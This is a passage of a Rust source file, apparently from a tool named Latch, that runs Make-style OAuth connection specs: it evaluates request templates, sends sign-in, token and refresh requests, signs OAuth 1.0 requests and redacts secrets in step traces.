//! Runs a spec's steps: each request spec's templates evaluated against the
//! step's variables, sent, its answer parsed and turned into `temp`, `data`,
//! `expires`, `metadata` and `uid` the way Make's runtime does (the README's
//! "Adding a provider with a spec" lists the decisions taken where Make's
//! documentation is silent).
//!
//! A [`Runner`] holds the variables of one sign-in, refresh or request:
//! `parameters`, `common`, `data` (`connection` is the same data, with the
//! parameters beneath it), `temp`, `oauth` and, after the browser came
//! back, `query`. Every value that came from `common`, a password
//! parameter, `data` or a response is a secret: the [`StepTrace`] a step
//! leaves shows it as `[redacted]`, and nothing here logs a request or a
//! response.

use std::time::Duration;

use chrono::{DateTime, Utc};
use oauth2::http::{self, header, HeaderName, HeaderValue, Method};
use serde_json::{Map as JsonMap, Value as Json};
use zeroize::Zeroizing;

use super::iml::{self, Context, Template, Value, Vars};
use crate::error::{Error, ErrorKind, Result};
use crate::http::{ProviderHttp, OAUTH_RESPONSE_LIMIT};
use crate::model::{literal_host, SpecDocument};
use crate::secret::AccessToken;
use crate::validate;

/// What one step left behind.
#[derive(Debug, Default)]
pub struct StepResult {
    /// `response.data` of every request of the step, merged in order.
    pub data: JsonMap<String, Json>,
    /// `response.expires`: after this the user must sign in again.
    pub expires: Option<DateTime<Utc>>,
    /// `response.metadata.value`: the account as the user knows it.
    pub account: Option<String>,
    /// `response.uid`: the account's id at the provider.
    pub uid: Option<String>,
    /// False when every request of the step was skipped by its `condition`.
    pub ran: bool,
}

/// A request a step sent and what came back, secrets masked: what the
/// step runner shows.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
pub struct StepTrace {
    pub step: String,
    pub method: String,
    pub url: String,
    pub request_headers: Vec<(String, String)>,
    pub request_body: Option<String>,
    pub status: Option<u16>,
    pub response_body: Option<String>,
}

/// The mask shown in place of a secret.
pub const MASK: &str = "[redacted]";

/// The variables of one run of a spec's steps.
pub struct Runner<'a> {
    document: &'a SpecDocument,
    http: &'a ProviderHttp,
    now: DateTime<Utc>,
    parameters: JsonMap<String, Json>,
    common: JsonMap<String, Json>,
    /// The connection's data as stored before this run.
    pub data: JsonMap<String, Json>,
    pub temp: JsonMap<String, Json>,
    oauth: JsonMap<String, Json>,
    query: Option<JsonMap<String, Json>>,
    /// Values never shown: common, password parameters, data, tokens.
    secrets: Vec<Zeroizing<String>>,
    pub trace: Vec<StepTrace>,
    /// Run the step's requests whatever their `condition` says (a refresh
    /// Latch found due, or the user asked for).
    pub force: bool,
    /// OAuth 1.0 specs: the `oauth_callback` Latch sends with the request
    /// token request (its loopback redirect with its `state`).
    pub oauth1_callback: Option<String>,
    /// OAuth 1.0 specs: the `oauth_token` the request token step got; the
    /// browser's answer must name it.
    pub request_token: Option<String>,
}

/// The user's part of a run: parameter values (secret ones included),
/// common data, and the scopes and redirect URI Latch chose.
pub struct RunInput<'a> {
    pub document: &'a SpecDocument,
    pub parameters: JsonMap<String, Json>,
    pub secret_parameters: JsonMap<String, Json>,
    pub common: JsonMap<String, Json>,
    pub data: JsonMap<String, Json>,
    pub scopes: Vec<String>,
    pub redirect_uri: String,
}

impl<'a> Runner<'a> {
    pub fn new(input: RunInput<'a>, http: &'a ProviderHttp, now: DateTime<Utc>) -> Runner<'a> {
        let mut secrets = Vec::new();
        collect_strings(&Json::Object(input.common.clone()), &mut secrets);
        collect_strings(&Json::Object(input.secret_parameters.clone()), &mut secrets);
        collect_strings(&Json::Object(input.data.clone()), &mut secrets);
        let mut parameters = input.parameters;
        // Defaults of parameters the user left empty.
        for definition in &input.document.parameters {
            if let (Some(name), Some(default)) = (definition.get("name").and_then(Json::as_str), definition.get("default")) {
                if !parameters.contains_key(name) && !input.secret_parameters.contains_key(name) && !default.is_null() {
                    parameters.insert(name.to_owned(), default.clone());
                }
            }
        }
        parameters.extend(input.secret_parameters);
        let mut oauth = JsonMap::new();
        oauth.insert("scope".into(), Json::Array(input.scopes.into_iter().map(Json::String).collect()));
        // Every redirect variable is Latch's redirect, whatever the spec
        // chose: the sign-in comes back to Latch, never to Make.
        for key in ["redirectUri", "localRedirectUri", "makeRedirectUri"] {
            oauth.insert(key.into(), Json::String(input.redirect_uri.clone()));
        }
        Runner {
            document: input.document,
            http,
            now,
            parameters,
            common: input.common,
            data: input.data,
            temp: JsonMap::new(),
            oauth,
            query: None,
            secrets,
            trace: Vec::new(),
            force: false,
            oauth1_callback: None,
            request_token: None,
        }
    }

    fn vars(&self, response: Option<&ResponseVars>) -> Vars {
        let mut vars = Vars::new();
        let object = |map: &JsonMap<String, Json>| Value::from_json(&Json::Object(map.clone()));
        vars.insert("parameters".into(), object(&self.parameters));
        vars.insert("common".into(), object(&self.common));
        vars.insert("data".into(), object(&self.data));
        let mut connection = self.parameters.clone();
        connection.extend(self.data.clone());
        vars.insert("connection".into(), object(&connection));
        vars.insert("temp".into(), object(&self.temp));
        vars.insert("oauth".into(), object(&self.oauth));
        let mut environment = iml::Map::new();
        environment.insert("timezone".into(), Value::String("UTC".into()));
        vars.insert("environment".into(), Value::Object(environment));
        if let Some(query) = &self.query {
            vars.insert("query".into(), object(query));
        }
        if let Some(response) = response {
            vars.insert("body".into(), response.body.clone());
            vars.insert("headers".into(), Value::Object(response.headers.clone()));
            vars.insert("statusCode".into(), Value::Number(f64::from(response.status)));
        }
        vars
    }

    fn eval(&self, step: &str, what: &str, template: &Json, response: Option<&ResponseVars>) -> Result<Value> {
        let vars = self.vars(response);
        let ctx = Context::new(&vars, self.now);
        iml::eval_json(template, &ctx).map_err(|err| {
            Error::validation("spec", format!("The spec's '{step}' step could not be evaluated ({what}): {}.", err.message.trim_end_matches('.')))
        })
    }

    fn eval_string(&self, step: &str, what: &str, template: &Json, response: Option<&ResponseVars>) -> Result<String> {
        match self.eval(step, what, template, response)? {
            Value::Undefined | Value::Null => Ok(String::new()),
            value => Ok(value.display()),
        }
    }

    /// Whether a request's `condition` lets it run.
    fn condition(&self, step: &str, request: &Json) -> Result<bool> {
        let Some(condition) = request.get("condition") else { return Ok(true) };
        let (expr, default) = match condition {
            Json::Object(o) => (o.get("condition").cloned().unwrap_or(Json::Bool(true)), o.get("default").cloned()),
            other => (other.clone(), None),
        };
        let value = self.eval(step, "condition", &expr, None)?;
        Ok(match (value, default) {
            (Value::Undefined, Some(default)) => Value::from_json(&default).truthy(),
            (value, _) => value.truthy(),
        })
    }

    /// Evaluates a request's `temp` and merges it into `temp`.
    fn merge_temp(&mut self, step: &str, template: Option<&Json>, response: Option<&ResponseVars>) -> Result<()> {
        let Some(template) = template else { return Ok(()) };
        if let Some(Json::Object(values)) = self.eval(step, "temp", template, response)?.to_json() {
            for value in values.values() {
                collect_secret_temp(value, &mut self.secrets);
            }
            self.temp.extend(values);
        }
        Ok(())
    }

    /// The requests of a step: one request spec or an array run in order.
    fn requests(&self, step: &str) -> Vec<Json> {
        match self.document.step(step) {
            Some(Json::Array(items)) => items.clone(),
            Some(one) => vec![one.clone()],
            None => Vec::new(),
        }
    }

    /// Whether the spec has `step`.
    pub fn has(&self, step: &str) -> bool {
        self.document.step(step).is_some()
    }

    /// Runs every request of `step` in order (`preauthorize`, `token`,
    /// `info`, `refresh`, `invalidate`).
    pub async fn run(&mut self, step: &str) -> Result<StepResult> {
        let mut result = StepResult::default();
        for request in self.requests(step) {
            self.run_request(step, &request, &mut result).await?;
        }
        Ok(result)
    }

    /// Whether `refresh.condition` holds at `at` for `data` (true when the
    /// spec's refresh has no condition).
    pub fn refresh_due(&self, at: DateTime<Utc>) -> Result<bool> {
        let requests = self.requests("refresh");
        let Some(first) = requests.first() else { return Ok(false) };
        let Some(condition) = first.get("condition") else { return Ok(true) };
        let expr = match condition {
            Json::Object(o) => o.get("condition").cloned().unwrap_or(Json::Bool(true)),
            other => other.clone(),
        };
        let vars = self.vars(None);
        let ctx = Context::new(&vars, at);
        let value = iml::eval_json(&expr, &ctx).map_err(|err| {
            Error::validation("spec", format!("The spec's refresh condition could not be evaluated: {}.", err.message.trim_end_matches('.')))
        })?;
        Ok(value.truthy())
    }

    /// The address the browser is sent to (`authorize`'s `url?qs`), with
    /// Latch's `state` added whatever the spec says.
    pub fn authorize_url(&mut self, state: &str) -> Result<url::Url> {
        let request = self.requests("authorize").into_iter().next().ok_or_else(|| {
            Error::validation("spec", "The spec has no 'authorize' step, so there is no sign-in page to open.")
        })?;
        self.merge_temp("authorize", request.get("temp"), None)?;
        let address = self.eval_string("authorize", "url", request.get("url").unwrap_or(&Json::Null), None)?;
        let mut url = validate::check_endpoint_url("The sign-in page", address.trim())
            .map_err(|message| Error::validation("spec", format!("In the spec's 'authorize' step: {message}")))?;
        if self.document.is_oauth1() {
            // Make adds `oauth_token` (the step's `oauth.token`, else the
            // request token); `state` rides in the callback instead.
            let oauth = self.oauth_values("authorize", &self.with_root_oauth(&request))?;
            let token = oauth.get("token").cloned().or_else(|| self.request_token.clone()).unwrap_or_default();
            if let Some(qs) = request.get("qs") {
                let pairs = query_pairs(&self.eval("authorize", "qs", qs, None)?);
                url.query_pairs_mut().clear().extend_pairs(pairs);
            }
            let kept: Vec<(String, String)> =
                url.query_pairs().filter(|(k, _)| k != "oauth_token").map(|(k, v)| (k.into_owned(), v.into_owned())).collect();
            url.query_pairs_mut().clear().extend_pairs(kept).append_pair("oauth_token", &token);
            return Ok(url);
        }
        if let Some(qs) = request.get("qs") {
            let pairs = query_pairs(&self.eval("authorize", "qs", qs, None)?);
            let mut query = url.query_pairs_mut();
            query.clear();
            for (key, value) in pairs.iter().filter(|(k, _)| k != "state") {
                query.append_pair(key, value);
            }
        }
        let kept: Vec<(String, String)> = url.query_pairs().filter(|(k, _)| k != "state").map(|(k, v)| (k.into_owned(), v.into_owned())).collect();
        url.query_pairs_mut().clear().extend_pairs(kept).append_pair("state", state);
        Ok(url)
    }

    /// The browser came back with `query`: ends the sign-in on `error`,
    /// else runs `authorize.response.temp` with it.
    pub fn authorized(&mut self, query: JsonMap<String, Json>) -> Result<()> {
        collect_strings(&Json::Object(query.clone()), &mut self.secrets);
        if let Some(error) = query.get("error").and_then(Json::as_str) {
            let description = query.get("error_description").and_then(Json::as_str).unwrap_or("");
            let message = if error == "access_denied" {
                "The sign-in was cancelled or refused at the provider.".to_owned()
            } else {
                "The provider refused the sign-in.".to_owned()
            };
            let provider = crate::error::ProviderError {
                error: crate::error::printable(error, false),
                error_description: Some(description).filter(|d| !d.is_empty()).map(|d| crate::error::printable(d, false)),
                error_uri: None,
            };
            return Err(Error::new(ErrorKind::NeedsAuthorization, message).with_provider(provider));
        }
        self.query = Some(query);
        let request = self.requests("authorize").into_iter().next().unwrap_or(Json::Null);
        let response = request.get("response").cloned().unwrap_or(Json::Null);
        self.merge_temp("authorize", response.get("temp"), None)
    }

    async fn run_request(&mut self, step: &str, request: &Json, result: &mut StepResult) -> Result<()> {
        if !request.is_object() {
            return Err(Error::validation("spec", format!("The spec's '{step}' step is not a request (a JSON object).")));
        }
        self.merge_temp(step, request.get("temp"), None)?;
        if !self.force && !self.condition(step, request)? {
            return Ok(());
        }
        result.ran = true;
        let request = &self.with_root_oauth(request);
        let (http_request, mut trace) = self.build(step, request)?;
        let response = self.http.send(http_request, OAUTH_RESPONSE_LIMIT).await.map_err(|err| {
            Error::network(format!("The spec's '{step}' step could not reach the provider: {err}."))
        })?;
        let spec_response = request.get("response").cloned().unwrap_or(Json::Null);
        let status = response.status().as_u16();
        let vars = ResponseVars::parse(&response, spec_response.get("type"));
        collect_strings(&vars.body.to_json().unwrap_or(Json::Null), &mut self.secrets);
        trace.status = Some(status);
        trace.response_body = Some(self.mask(&String::from_utf8_lossy(response.body())));
        self.trace.push(trace);

        if step == "requestToken" && status < 400 {
            if let Value::Object(body) = &vars.body {
                self.request_token = body.get("oauth_token").map(Value::display);
            }
        }
        self.merge_temp(step, spec_response.get("temp"), Some(&vars))?;
        // `valid` judges an answer the HTTP status calls a success; an error
        // status is an error whatever it says.
        let valid = match spec_response.get("valid") {
            _ if status >= 400 => false,
            Some(Json::Object(v)) => self.eval(step, "valid", v.get("condition").unwrap_or(&Json::Bool(true)), Some(&vars))?.truthy(),
            Some(v) => self.eval(step, "valid", v, Some(&vars))?.truthy(),
            None => (200..400).contains(&status),
        };
        if !valid || status >= 400 {
            return Err(self.step_error(step, &spec_response, &vars, !valid && status < 400));
        }
        if let Some(template) = spec_response.get("data") {
            if let Some(Json::Object(values)) = self.eval(step, "data", template, Some(&vars))?.to_json() {
                for value in values.values() {
                    collect_strings(value, &mut self.secrets);
                }
                result.data.extend(values);
            }
        }
        if let Some(template) = spec_response.get("expires") {
            let value = self.eval(step, "expires", template, Some(&vars))?;
            result.expires = date_of(&value);
        }
        if let Some(template) = spec_response.get("metadata") {
            let value = self.eval(step, "metadata", template, Some(&vars))?;
            let text = match &value {
                Value::Object(o) => o.get("value").map(Value::display),
                Value::Undefined | Value::Null => None,
                other => Some(other.display()),
            };
            result.account = text.map(|t| t.trim().to_owned()).filter(|t| !t.is_empty());
        }
        if let Some(template) = spec_response.get("uid") {
            let value = self.eval_string(step, "uid", template, Some(&vars))?;
            result.uid = Some(value).filter(|v| !v.is_empty());
        }
        // A later request of the same step reads what this one stored.
        self.data.extend(result.data.clone());
        Ok(())
    }

    /// The error a failed request becomes, in the spec's words when it has
    /// them: `valid.message`, then `error.<status>.message`, then
    /// `error.message`. A refused refresh or token request needs a sign-in.
    fn step_error(&self, step: &str, spec_response: &Json, vars: &ResponseVars, invalid: bool) -> Error {
        let status = vars.status;
        let from = |template: Option<&Json>| -> Option<String> {
            let text = self.eval_string(step, "error message", template?, Some(vars)).ok()?;
            let text = self.mask(text.trim());
            (!text.is_empty()).then_some(text)
        };
        let error = spec_response.get("error");
        let valid_message = spec_response.get("valid").and_then(|v| v.get("message")).filter(|_| invalid);
        let message = from(valid_message)
            .or_else(|| from(error.and_then(|e| e.get(status.to_string())).and_then(|e| e.get("message").or(Some(e)))))
            .or_else(|| from(error.and_then(|e| if e.is_string() { Some(e) } else { e.get("message") })));
        let error_type = error
            .and_then(|e| e.get(status.to_string()))
            .and_then(|e| e.get("type"))
            .or_else(|| error.and_then(|e| e.get("type")))
            .and_then(Json::as_str)
            .unwrap_or("");
        let said = match &message {
            Some(m) => format!("The provider's answer to the '{step}' step was not accepted: {}", m.trim_end_matches('.')),
            None if invalid => format!("The provider's answer to the '{step}' step was marked as invalid by the spec"),
            None => format!("The provider answered the '{step}' step with HTTP {status}"),
        };
        let refused = step == "refresh" && matches!(status, 400 | 401)
            || error_type == "InvalidAccessTokenError";
        let err = if status == 429 || status >= 500 || error_type == "RateLimitError" || error_type == "ConnectionError" {
            Error::network(format!("{said}."))
        } else if refused {
            Error::needs_authorization(format!("{said}."))
        } else {
            Error::provider(format!("{said}."))
        };
        Error { retry_after: vars.retry_after, ..err }
    }

    /// The HTTP request of a request spec, and its trace (masked).
    fn build(&self, step: &str, request: &Json) -> Result<(http::Request<Vec<u8>>, StepTrace)> {
        let address = self.eval_string(step, "url", request.get("url").unwrap_or(&Json::Null), None)?;
        let (request, trace) = self.build_at(step, request, &address)?;
        Ok((request, trace))
    }

    /// Builds a request spec against `address` (already evaluated; for API
    /// requests, joined to the base URL).
    fn build_at(&self, step: &str, request_spec: &Json, address: &str) -> Result<(http::Request<Vec<u8>>, StepTrace)> {
        let request = request_spec;
        let fail = |message: String| Error::validation("spec", format!("In the spec's '{step}' step: {message}"));
        let mut url = validate::check_endpoint_url("The request's address", address.trim()).map_err(fail)?;
        let method = match request.get("method") {
            Some(m) => self.eval_string(step, "method", m, None)?.to_ascii_uppercase(),
            None => "GET".into(),
        };
        let method = Method::from_bytes(method.as_bytes()).map_err(|_| fail(format!("'{method}' is not an HTTP method.")))?;
        if let Some(qs) = request.get("qs") {
            let pairs = query_pairs(&self.eval(step, "qs", qs, None)?);
            url.query_pairs_mut().clear().extend_pairs(pairs);
            if url.query() == Some("") {
                url.set_query(None);
            }
        }
        let mut headers = http::HeaderMap::new();
        if let Some(template) = request.get("headers") {
            if let Value::Object(values) = self.eval(step, "headers", template, None)? {
                for (key, value) in values {
                    if matches!(value, Value::Undefined) {
                        continue;
                    }
                    let name = HeaderName::from_bytes(key.as_bytes()).map_err(|_| fail(format!("'{key}' is not a header name.")))?;
                    let mut value = HeaderValue::from_str(&value.display())
                        .map_err(|_| fail(format!("the value of header '{key}' is not one line of text.")))?;
                    value.set_sensitive(true);
                    headers.insert(name, value);
                }
            }
        }
        let mut body = Vec::new();
        if method != Method::GET {
            if let Some(template) = request.get("body") {
                let value = self.eval(step, "body", template, None)?;
                let kind = request.get("type").and_then(Json::as_str).unwrap_or("json");
                let (bytes, content_type) = encode_body(&value, kind).map_err(fail)?;
                body = bytes;
                if let Some(content_type) = content_type {
                    headers.entry(header::CONTENT_TYPE).or_insert(HeaderValue::from_static(content_type));
                }
            }
        }
        let trace = StepTrace {
            step: step.to_owned(),
            method: method.to_string(),
            url: self.mask(url.as_str()),
            request_headers: headers
                .iter()
                .map(|(k, v)| (k.as_str().to_owned(), self.mask(&String::from_utf8_lossy(v.as_bytes()))))
                .collect(),
            request_body: (!body.is_empty()).then(|| self.mask(&String::from_utf8_lossy(&body))),
            status: None,
            response_body: None,
        };
        let mut builder = http::Request::builder().method(method).uri(url.as_str());
        *builder.headers_mut().expect("a fresh builder has headers") = headers;
        let mut request = builder.body(body).map_err(|err| fail(format!("the request could not be built ({err}).")))?;
        if request_spec.get("oauth").is_some() {
            self.sign_oauth1(step, request_spec, &mut request)?;
        }
        Ok((request, trace))
    }

    /// A request spec with the communication's root `oauth` merged under
    /// its own (OAuth 1.0 specs: the step's keys win).
    fn with_root_oauth(&self, request: &Json) -> Json {
        let Some(Json::Object(root)) = self.document.communication.get("oauth") else { return request.clone() };
        let mut merged = request.clone();
        if let Json::Object(object) = &mut merged {
            let mut oauth = root.clone();
            if let Some(Json::Object(own)) = object.get("oauth") {
                oauth.extend(own.clone());
            }
            object.insert("oauth".into(), Json::Object(oauth));
        }
        merged
    }

    /// A request spec's `oauth` directive, its templates evaluated.
    fn oauth_values(&self, step: &str, request: &Json) -> Result<std::collections::BTreeMap<String, String>> {
        let mut out = std::collections::BTreeMap::new();
        if let Some(oauth) = request.get("oauth") {
            if let Value::Object(values) = self.eval(step, "oauth", oauth, None)? {
                for (key, value) in values {
                    match value {
                        Value::Undefined | Value::Null => {}
                        Value::Bool(b) => {
                            out.insert(key, b.to_string());
                        }
                        other => {
                            out.insert(key, other.display());
                        }
                    }
                }
            }
        }
        Ok(out)
    }

    /// Signs `request` per the request spec's `oauth` directive (OAuth 1.0
    /// specs): Make's names, the `request` library's semantics.
    fn sign_oauth1(&self, step: &str, request_spec: &Json, request: &mut http::Request<Vec<u8>>) -> Result<()> {
        use crate::flows::oauth1::{self as signer, Key, Method, Signing, Transport};
        let fail = |message: String| Error::validation("spec", format!("In the spec's '{step}' step: {message}"));
        let oauth = self.oauth_values(step, request_spec)?;
        let get = |key: &str| oauth.get(key).map(String::as_str).filter(|v| !v.is_empty());
        let method = match get("signature_method").unwrap_or("HMAC-SHA1").to_ascii_uppercase().as_str() {
            "HMAC-SHA1" => Method::HmacSha1,
            "HMAC-SHA256" => Method::HmacSha256,
            "RSA-SHA1" => Method::RsaSha1,
            "RSA-SHA256" => Method::RsaSha256,
            "PLAINTEXT" => Method::Plaintext,
            other => return Err(fail(format!("'{other}' is not a signature method Latch knows (HMAC-SHA1, HMAC-SHA256, RSA-SHA1, RSA-SHA256, PLAINTEXT)."))),
        };
        let transport = match get("transport_method").unwrap_or("header") {
            "header" => Transport::Header,
            "query" => Transport::Query,
            "body" => Transport::Body,
            other => return Err(fail(format!("'{other}' is not a transport method (header, query or body)."))),
        };
        let consumer_key = get("consumer_key").ok_or_else(|| fail("its oauth directive has no consumer_key.".into()))?;
        let private_key = match (method.uses_private_key(), get("private_key")) {
            (true, Some(pem)) => Some(signer::private_key_from_pem(pem)?),
            (true, None) => return Err(fail("RSA signing needs oauth.private_key.".into())),
            (false, _) => None,
        };
        let key = match &private_key {
            Some(rsa) => Key::Rsa(rsa),
            None => Key::Secret { consumer_secret: get("consumer_secret").unwrap_or(""), token_secret: get("token_secret") },
        };
        let callback = match step {
            "requestToken" => self.oauth1_callback.as_deref().or(get("callback")),
            _ => None,
        };
        let signing = Signing {
            method,
            transport,
            consumer_key,
            key,
            token: get("token"),
            callback,
            verifier: get("verifier"),
            body_hash: get("body_hash").is_some_and(|v| v != "false"),
            now: self.now,
            nonce: None,
        };
        signer::sign(&signing, request)
    }

    /// An API request through the spec's `base`: the base's headers and
    /// query first, the caller's over them; a relative `path` joins
    /// `baseUrl`.
    pub fn api_request(&self, method: &str, path: &str, headers: &[(String, String)], body: Option<&[u8]>) -> Result<http::Request<Vec<u8>>> {
        let base = self.document.base.clone().unwrap_or(Json::Null);
        let address = if path.starts_with("http://") || path.starts_with("https://") {
            path.to_owned()
        } else {
            let base_url = base
                .get("baseUrl")
                .map(|b| self.eval_string("base", "baseUrl", b, None))
                .transpose()?
                .filter(|b| !b.is_empty())
                .ok_or_else(|| {
                    Error::validation("url", "The spec has no base URL, so the request needs a whole address (https://…).")
                })?;
            join(&base_url, path)
        };
        let mut spec = JsonMap::new();
        spec.insert("method".into(), Json::String(method.to_owned()));
        for key in ["headers", "qs", "oauth"] {
            if let Some(value) = base.get(key) {
                spec.insert(key.into(), value.clone());
            }
        }
        let spec = Json::Object(spec);
        let (mut request, _) = self.build_at("base", &spec, &address)?;
        // The caller's own query stays when the base adds none.
        if base.get("qs").is_some() {
            if let Some(own) = url::Url::parse(&address).ok().and_then(|u| u.query().map(str::to_owned)) {
                let mut url = url::Url::parse(&request.uri().to_string()).map_err(|_| Error::validation("url", "The address is not valid."))?;
                let mut pairs: Vec<(String, String)> = url::form_urlencoded::parse(own.as_bytes()).into_owned().collect();
                pairs.extend(url.query_pairs().into_owned());
                url.query_pairs_mut().clear().extend_pairs(pairs);
                *request.uri_mut() = url.as_str().parse().map_err(|_| Error::validation("url", "The address is not valid."))?;
            }
        }
        for (key, value) in headers {
            let name = HeaderName::from_bytes(key.as_bytes()).map_err(|_| Error::validation("headers", format!("'{key}' is not a valid header name.")))?;
            let value = HeaderValue::from_str(value)
                .map_err(|_| Error::validation("headers", format!("The value of header '{key}' is not valid (one line of text).")))?;
            request.headers_mut().insert(name, value);
        }
        *request.body_mut() = body.map(<[u8]>::to_vec).unwrap_or_default();
        Ok(request)
    }

    /// The value a script uses as "the token": `data.accessToken` (or
    /// `access_token`/`token`), else what the base's Authorization header
    /// carries after its scheme.
    pub fn access_token(&self) -> Option<AccessToken> {
        for key in ["accessToken", "access_token", "token"] {
            if let Some(Json::String(token)) = self.data.get(key) {
                if !token.is_empty() {
                    return Some(AccessToken::new(token.clone()));
                }
            }
        }
        let base = self.document.base.as_ref()?;
        let headers = base.get("headers")?;
        if let Value::Object(values) = self.eval("base", "headers", headers, None).ok()? {
            for (key, value) in values {
                if key.eq_ignore_ascii_case("authorization") {
                    let text = value.display();
                    let token = text.split_once(' ').map(|(_, t)| t).unwrap_or(&text).trim().to_owned();
                    if !token.is_empty() {
                        return Some(AccessToken::new(token));
                    }
                }
            }
        }
        None
    }

    /// `text` with every secret value this run knows replaced by [`MASK`].
    pub fn mask(&self, text: &str) -> String {
        let mut out = text.to_owned();
        let mut secrets: Vec<&str> = self.secrets.iter().map(|s| s.as_str()).filter(|s| s.len() >= 4).collect();
        // Longest first, so a secret inside another is not half-masked.
        secrets.sort_by_key(|s| std::cmp::Reverse(s.len()));
        for secret in secrets {
            if out.contains(secret) {
                out = out.replace(secret, MASK);
            }
            let encoded: String = url::form_urlencoded::byte_serialize(secret.as_bytes()).collect();
            if encoded != secret && out.contains(&encoded) {
                out = out.replace(&encoded, MASK);
            }
        }
        out
    }
}

/// What a response directive reads: `body`, `headers`, `statusCode`.
struct ResponseVars {
    body: Value,
    headers: iml::Map,
    status: u16,
    retry_after: Option<Duration>,
}

impl ResponseVars {
    fn parse(response: &http::Response<Vec<u8>>, kind: Option<&Json>) -> ResponseVars {
        let status = response.status().as_u16();
        let media = crate::http::media_type(response.headers());
        let kind = match kind {
            Some(Json::String(k)) => k.clone(),
            Some(Json::Object(by_status)) => type_for_status(by_status, status).unwrap_or_else(|| "automatic".into()),
            _ => "automatic".into(),
        };
        let text = String::from_utf8_lossy(response.body()).into_owned();
        let as_json = || serde_json::from_str::<Json>(&text).ok().map(|j| Value::from_json(&j));
        let as_form = || {
            let map: iml::Map = url::form_urlencoded::parse(text.as_bytes()).map(|(k, v)| (k.into_owned(), Value::String(v.into_owned()))).collect();
            Value::Object(map)
        };
        let body = match kind.as_str() {
            "json" => as_json().unwrap_or(Value::String(text.clone())),
            "urlencoded" => as_form(),
            "text" | "string" | "raw" | "binary" => Value::String(text.clone()),
            _ => {
                if media.contains("json") {
                    as_json().unwrap_or(Value::String(text.clone()))
                } else if media == "application/x-www-form-urlencoded" {
                    as_form()
                } else if media.starts_with("text/") || media.is_empty() {
                    // `text/plain` carrying JSON is read as JSON (providers
                    // that mislabel their answers are common).
                    as_json().filter(|v| matches!(v, Value::Object(_) | Value::Array(_))).unwrap_or(Value::String(text.clone()))
                } else {
                    as_json().unwrap_or(Value::String(text.clone()))
                }
            }
        };
        let headers = response
            .headers()
            .iter()
            .map(|(k, v)| (k.as_str().to_ascii_lowercase(), Value::String(String::from_utf8_lossy(v.as_bytes()).into_owned())))
            .collect();
        let retry_after = response
            .headers()
            .get(header::RETRY_AFTER)
            .and_then(|v| v.to_str().ok())
            .and_then(|v| v.trim().parse::<u64>().ok())
            .map(|s| Duration::from_secs(s.min(3600)));
        ResponseVars { body, headers, status, retry_after }
    }
}

/// `response.type` given per status: `NNN`, `NNN-NNN` (narrowest wins) or `*`.
fn type_for_status(by_status: &JsonMap<String, Json>, status: u16) -> Option<String> {
    let mut best: Option<(u16, String)> = None;
    for (key, value) in by_status {
        let Some(kind) = value.as_str() else { continue };
        let (low, high) = match key.split_once('-') {
            Some((a, b)) => (a.trim().parse().ok()?, b.trim().parse().ok()?),
            None if key == "*" => (1, 999),
            None => {
                let n: u16 = key.trim().parse().ok()?;
                (n, n)
            }
        };
        if (low..=high).contains(&status) && best.as_ref().is_none_or(|(width, _)| high - low < *width) {
            best = Some((high - low, kind.to_owned()));
        }
    }
    best.map(|(_, kind)| kind)
}

/// A request body in the spec's `type`.
fn encode_body(value: &Value, kind: &str) -> std::result::Result<(Vec<u8>, Option<&'static str>), String> {
    match kind {
        "urlencoded" | "application/x-www-form-urlencoded" => {
            let pairs = query_pairs(value);
            let text: String = url::form_urlencoded::Serializer::new(String::new()).extend_pairs(pairs).finish();
            Ok((text.into_bytes(), Some("application/x-www-form-urlencoded")))
        }
        "text" | "string" | "raw" => Ok((value.display().into_bytes(), Some("text/plain"))),
        "multipart/form-data" | "binary" => Err(format!("request bodies of type '{kind}' are not supported in connections.")),
        _ => match value {
            Value::String(s) => Ok((s.clone().into_bytes(), None)),
            other => {
                let json = other.to_json().unwrap_or(Json::Null);
                Ok((json.to_string().into_bytes(), Some("application/json")))
            }
        },
    }
}

/// An evaluated `qs` (or form body) as pairs: arrays repeat the key,
/// undefined values are left out.
fn query_pairs(value: &Value) -> Vec<(String, String)> {
    let mut pairs = Vec::new();
    if let Value::Object(values) = value {
        for (key, value) in values {
            match value {
                Value::Undefined => {}
                Value::Array(items) => pairs.extend(items.iter().map(|item| (key.clone(), item.display()))),
                other => pairs.push((key.clone(), other.display())),
            }
        }
    }
    pairs
}

/// `base` + `/path`, with exactly one slash between.
fn join(base: &str, path: &str) -> String {
    format!("{}/{}", base.trim_end_matches('/'), path.trim_start_matches('/'))
}

/// A date from a template's value: a date, an ISO string or epoch millis.
pub fn date_of(value: &Value) -> Option<DateTime<Utc>> {
    value.as_date()
}

/// Every string (of four characters or more) in `value`, as secrets.
fn collect_strings(value: &Json, out: &mut Vec<Zeroizing<String>>) {
    match value {
        Json::String(s) if s.len() >= 4 => out.push(Zeroizing::new(s.clone())),
        Json::Array(items) => items.iter().for_each(|v| collect_strings(v, out)),
        Json::Object(map) => map.values().for_each(|v| collect_strings(v, out)),
        Json::Number(n) if n.to_string().len() >= 6 => out.push(Zeroizing::new(n.to_string())),
        _ => {}
    }
}

/// `temp` values are secrets (codes, verifiers, tokens), except web
/// addresses (where the next step goes), which the trace shows.
fn collect_secret_temp(value: &Json, out: &mut Vec<Zeroizing<String>>) {
    match value {
        Json::String(s) if s.starts_with("https://") || s.starts_with("http://") => {}
        other => collect_strings(other, out),
    }
}

/// Checks the variables every template of a spec reads and the steps it
/// names: unknown steps, unknown variables and IML errors, each with its
/// JSON path and position. Empty when the spec is fine.
pub fn check(document: &SpecDocument) -> Vec<String> {
    const STEPS: &[&str] = &["preauthorize", "authorize", "token", "info", "refresh", "invalidate"];
    const OAUTH1_STEPS: &[&str] = &["oauth", "requestToken", "authorize", "accessToken", "info", "invalidate"];
    const ROOTS: &[&str] = &[
        "parameters", "common", "data", "connection", "temp", "oauth", "query", "body", "headers", "statusCode",
        "environment", "now", "uuid", "timestamp",
    ];
    let mut problems = schema_problems(document);
    match &document.communication {
        Json::Object(steps) => {
            let (known, required): (&[&str], &[&str]) = if document.is_oauth1() {
                (OAUTH1_STEPS, &["requestToken", "authorize", "accessToken"])
            } else {
                (STEPS, &["token"])
            };
            for name in steps.keys() {
                if !known.contains(&name.as_str()) {
                    problems.push(format!(
                        "communication.{name}: '{name}' is not a step Latch knows in {} specs (it knows {}).",
                        if document.is_oauth1() { "OAuth 1.0" } else { "OAuth 2.0" },
                        known.join(", ")
                    ));
                }
            }
            for name in required {
                if !steps.contains_key(*name) {
